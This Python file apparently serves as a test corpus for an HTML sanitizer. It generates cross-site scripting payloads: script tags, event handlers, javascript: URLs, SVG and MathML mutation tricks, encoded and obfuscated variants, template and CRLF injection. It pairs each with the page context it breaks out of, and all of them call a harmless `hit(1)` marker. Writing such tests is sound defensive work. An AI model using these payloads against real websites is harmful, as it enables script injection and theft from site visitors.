"""Texts that try to run a script in a browser: each way to run one, out of each place in a page.

`hit()` is what they call; `data-hit` marks an element that stands in a page only if the text was
taken for markup.
"""

from dataclasses import dataclass
from itertools import product

CALL = "hit(1)"

# Ways to run a script once a text is read as markup.
WAYS = (
    f"<script data-hit>{CALL}</script>",
    f"<SCRIPT/data-hit >{CALL}</SCRIPT >",
    f"<img data-hit src=x onerror={CALL}>",
    f"<img/data-hit/src=x/onerror={CALL}>",
    f"<IMG data-hit SRC=x\tOnErRoR\n=\n'{CALL}'>",
    f"<svg data-hit onload={CALL}>",
    f"<svg><script data-hit>{CALL}</script></svg>",
    f"<svg><animate data-hit onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a data-hit href=javascript:{CALL}><text y=9>x</text></a></svg>",
    f"<math><mtext><img data-hit src=x onerror={CALL}></mtext></math>",
    f"<details data-hit open ontoggle={CALL}><summary>x</summary></details>",
    f"<input data-hit autofocus onfocus={CALL}>",
    f"<video data-hit><source onerror={CALL}></video>",
    f"<audio data-hit src=x onerror={CALL}></audio>",
    f"<iframe data-hit src=javascript:parent.{CALL}></iframe>",
    f'<iframe data-hit srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f"<object data-hit data=javascript:{CALL}></object>",
    f"<a data-hit href=javascript:{CALL}>x</a>",
    f"<a data-hit href='java\tscript:{CALL}'>x</a>",
    f"<a data-hit href=&#106;avascript:{CALL}>x</a>",
    f"<form data-hit><button formaction=javascript:{CALL}>x</button></form>",
    f"<p data-hit tabindex=0 onmouseover={CALL} onclick={CALL}>x</p>",
    f"<style data-hit>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={CALL}>",
    f"<link data-hit rel=stylesheet href=x onerror={CALL}>",
    f"<base data-hit href=//elsewhere.example/><script src=x onerror={CALL}></script>",
    f"<meta data-hit http-equiv=refresh content='9;url=javascript:{CALL}'>",
)

# Places that a text can stand in, and what leads out of each into markup.
PLACES = {
    "": "<div>{}</div>",
    '">': '<input value="{}">',
    "'>": "<input value='{}'>",
    " >": "<input value={}>",
    "</title>": "<title>{}</title>",
    "</textarea>": "<textarea>{}</textarea>",
    "</style>": "<style>{}</style>",
    "</script>": '<script type="application/ld+json">"{}"</script>',
    "-->": "<!-- {} -->",
    "</option></select>": "<select><option>{}</select>",
    "</a></p></td></tr></table>": "<table><tr><td><p><a>{}</a></p></td></tr></table>",
}

# Of a kind of their own: no markup, or only for a reader that decodes or joins what it is given.
OTHERS = (
    f'" data-hit autofocus onfocus={CALL} x="',
    f"' data-hit autofocus onfocus={CALL} x='",
    f'";{CALL};//',
    f"';{CALL};//",
    f"\\';{CALL};//",
    f"${{{CALL}}}",
    f"`;{CALL};`",
    "{{constructor.constructor('" + CALL + "')()}}",
    "{% debug %}{{ request.META }}",
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"javascript:{CALL}//https://youtu.be/a",
    f"data:text/html,<script data-hit>parent.{CALL}</script>",
    f"vbscript:{CALL}",
    f"&lt;img data-hit src=x onerror={CALL}&gt;",
    f"&amp;lt;img data-hit src=x onerror={CALL}&amp;gt;",
    f"&#60;img data-hit src=x onerror={CALL}&#62;",
    f"&#x3c;svg data-hit onload={CALL}&#x3e;",
    f"%3Cimg data-hit src=x onerror={CALL}%3E",
    f"\\u003cimg data-hit src=x onerror={CALL}\\u003e",
    f"＜img data-hit src=x onerror={CALL}＞",
    f"‹svg data-hit onload={CALL}›",
    f"<scr<script>ipt data-hit>{CALL}</scr</script>ipt>",
    f"<<img data-hit src=x onerror={CALL}>",
    f"<img data-hit src=x onerror={CALL} ",
    f"<im\u200bg data-hit src=x onerror={CALL}>",
    f"<\ufeffscript data-hit>{CALL}</script>",
    f"\u202e<svg data-hit onload={CALL}>",
    f"<![CDATA[<script data-hit>{CALL}</script>]]>",
    f"]]><script data-hit xmlns='http://www.w3.org/1999/xhtml'>{CALL}</script><![CDATA[",
    f"<html xmlns='http://www.w3.org/1999/xhtml'><script data-hit>{CALL}</script></html>",
    f'<?xml-stylesheet href="javascript:{CALL}"?>',
    f"<!DOCTYPE x [<!ENTITY e '{CALL}'>]><x>&e;</x>",
    f"<math><mtext><mglyph><style><!--</style><img title='--><img data-hit onerror={CALL}>'>",
    f"<svg></p><style><a title='</style><img data-hit src=x onerror={CALL}>'>",
    f"<noscript><p title='</noscript><img data-hit src=x onerror={CALL}>'>",
    f"x\r\nX-Hit: 1\r\n\r\n<script data-hit>{CALL}</script>",
    f'=HYPERLINK("javascript:{CALL}")',
    f"@import 'javascript:{CALL}';",
    f"expression({CALL})",
    f"x;background:url(javascript:{CALL})",
    f"[x](javascript:{CALL})",
    f"<xss data-hit style=xss:expression({CALL})>",
)


@dataclass(frozen=True)
class Attempt:
    text: str
    # A page in which the text runs, or has an element, if nothing is done about it.
    page: str = ""


ATTEMPTS = (
    *(
        Attempt(f"{out}{way}", place.format(f"{out}{way}"))
        for way, (out, place) in product(WAYS, PLACES.items())
    ),
    *map(Attempt, OTHERS),
)
